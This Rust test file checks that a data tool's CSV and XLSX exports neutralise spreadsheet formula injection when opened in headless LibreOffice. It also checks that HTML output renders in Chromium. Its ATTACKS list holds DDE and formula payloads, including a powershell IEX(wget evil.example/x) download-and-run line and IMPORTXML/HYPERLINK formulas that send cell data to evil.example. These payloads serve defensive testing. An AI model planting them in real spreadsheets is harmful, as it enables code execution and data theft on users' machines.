//! Files opened by the programs that users open them with: LibreOffice and Chromium, without their windows.
//!
//! Where a program is missing, its tests say so and pass.

use std::path::Path;
use std::process::Command;

use calamine::{Data, Reader, Xlsx, open_workbook};

use crate::workspace::Workspace;

/// What has run, or been tried, in somebody's spreadsheet.
const ATTACKS: [&str; 40] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
    "=IMPORTHTML(\"http://evil.example\",\"table\",1)",
    "=IMPORTDATA(\"http://evil.example/x.csv\")",
    "=IMPORTRANGE(\"http://evil.example\",\"A1\")",
    "=IMAGE(\"http://evil.example/x.png\")",
    "=WEBSERVICE(\"http://evil.example/\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=SUM(A1:A9)*0+1",
    "=INDIRECT(\"A1\")",
    "=CALL(\"kernel32\",\"WinExec\",\"JFF\",\"calc\",1)",
    "=REGISTER.ID(\"kernel32\",\"Beep\")",
    "=FILTERXML(\"<a/>\",\"//a\")",
    "  =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{200b}=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "−1+1",
    "{=1+1}",
    "=1+1\",\"=2+2",
    "=-1+1",
    "+49 30 123456",
];

/// Runs LibreOffice on a file; gives whether it is there.
fn convert(folder: &Path, filter: &str, to: &str, file: &str) -> bool {
    let profile = format!("-env:UserInstallation=file://{}", folder.join("profile").display());
    let mut command = Command::new("soffice");
    command.current_dir(folder).args(["--headless", &profile]);
    if !filter.is_empty() {
        command.arg(format!("--infilter={filter}"));
    }
    match command.args(["--convert-to", to, "--outdir", "opened", file]).output() {
        Ok(ended) => {
            assert!(ended.status.success(), "{}", String::from_utf8_lossy(&ended.stderr));
            true
        }
        Err(_) => {
            eprintln!("skipped: soffice (LibreOffice) is not installed");
            false
        }
    }
}

/// The texts of the first column below its head, and how many formulas there are.
fn opened(space: &Workspace, name: &str) -> (Vec<String>, usize) {
    let mut book: Xlsx<_> = open_workbook(space.path(name)).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&sheet).unwrap().used_cells().count();
    let range = book.worksheet_range(&sheet).unwrap();
    let texts = range.rows().skip(1).map(|row| match &row[0] {
        Data::String(text) => text.clone(),
        other => panic!("{other:?} is no text"),
    });
    (texts.collect(), formulas)
}

fn archive_with_attacks() -> Workspace {
    let space = Workspace::new();
    space.file("a.txt", "A story of some words in a line that is long enough.").run("import a.txt").code(0);
    let values: Vec<String> =
        ATTACKS.iter().map(|attack| format!("('{}')", attack.replace('\'', "''"))).collect();
    let sql = format!("WITH tried (\"=1+1\") AS (VALUES {}) SELECT * FROM tried", values.join(", "));
    space.file("attacks.sql", sql);
    space
}

/// Commas, UTF-8, and every formula evaluated.
const TRUSTING: &str = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true";

#[test]
fn no_formula_of_a_csv_runs_in_libreoffice() {
    let space = archive_with_attacks();
    space.run("sql -f attacks.sql --excel -o guarded.csv").code(0);
    if !convert(&space.path(""), TRUSTING, "xlsx", "guarded.csv") {
        return;
    }
    let (texts, formulas) = opened(&space, "opened/guarded.xlsx");
    assert_eq!(formulas, 0);
    assert_eq!(texts.len(), ATTACKS.len());
    for (text, attack) in texts.iter().zip(ATTACKS) {
        let visible = |text: &str| text.replace(['\r', '\n'], "").replace('\u{200b}', "");
        assert_eq!(visible(text.trim_start_matches('\'')), visible(attack), "as text");
    }
    // The same without the guard does run: LibreOffice was asked to evaluate.
    space.run("sql -f attacks.sql --excel --no-guard -o open.csv").code(0);
    assert!(convert(&space.path(""), TRUSTING, "xlsx", "open.csv"));
    let mut book: Xlsx<_> = open_workbook(space.path("opened/open.xlsx")).unwrap();
    assert!(book.worksheet_formula("open").unwrap().used_cells().count() > 10);
}

#[test]
fn no_text_of_a_workbook_runs_in_libreoffice() {
    let space = archive_with_attacks();
    space.run("sql -f attacks.sql -o attacks.xlsx --no-guard").code(0);
    let (texts, formulas) = opened(&space, "attacks.xlsx");
    assert_eq!((texts, formulas), (ATTACKS.map(str::to_string).to_vec(), 0));
    if convert(&space.path(""), "", "xlsx", "attacks.xlsx") {
        let (texts, formulas) = opened(&space, "opened/attacks.xlsx");
        assert_eq!(formulas, 0);
        let visible = |text: &str| text.replace(['\r', '\n'], "");
        assert_eq!(texts.map_visible(visible), ATTACKS.map(visible).to_vec());
    }
}

trait MapVisible {
    fn map_visible(self, visible: impl Fn(&str) -> String) -> Vec<String>;
}

impl MapVisible for Vec<String> {
    fn map_visible(self, visible: impl Fn(&str) -> String) -> Vec<String> {
        self.iter().map(|text| visible(text)).collect()
    }
}

#[test]
fn a_workbook_is_opened_by_libreoffice_with_its_dates_and_printed() {
    let space = Workspace::with_samples();
    space.run("query articles -o articles.xlsx").code(0);
    if !convert(&space.path(""), "", "csv:Text - txt - csv (StarCalc):44,34,76", "articles.xlsx") {
        return;
    }
    let text = space.read("opened/articles.csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let found: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let days: Vec<&str> = found.iter().map(|row| &row[1]).filter(|day| !day.is_empty()).collect();
    let given = space.column(
        "SELECT published_day FROM articles WHERE kind = 'article' AND published_day IS NOT NULL ORDER BY 1",
    );
    assert_eq!(days, given, "LibreOffice shows the days as they were");
    assert!(convert(&space.path(""), "", "pdf", "articles.xlsx"));
    assert!(space.path("opened/articles.pdf").metadata().unwrap().len() > 10_000);
}

#[test]
fn a_page_and_a_chart_are_shown_by_chromium() {
    let space = Workspace::with_samples();
    space.run("query articles -o articles.html").code(0);
    space.run("chart speakers -o speakers.html").code(0);
    let chromium = |arguments: &[&str]| {
        Command::new("chromium")
            .current_dir(space.path(""))
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-dev-shm-usage",
                "--user-data-dir=profile",
            ])
            .args(arguments)
            .output()
    };
    let page = format!("file://{}", space.path("articles.html").display());
    let Ok(shown) = chromium(&["--dump-dom", &page]) else {
        eprintln!("skipped: chromium is not installed");
        return;
    };
    let shown = String::from_utf8_lossy(&shown.stdout);
    assert!(shown.contains("td:nth-child(2)::before { content: 'Published'"), "its script has run: {shown}");
    let chart = format!("file://{}", space.path("speakers.html").display());
    chromium(&["--window-size=1100,900", "--screenshot=chart.png", &chart]).unwrap();
    assert!(space.path("chart.png").metadata().unwrap().len() > 10_000);
}
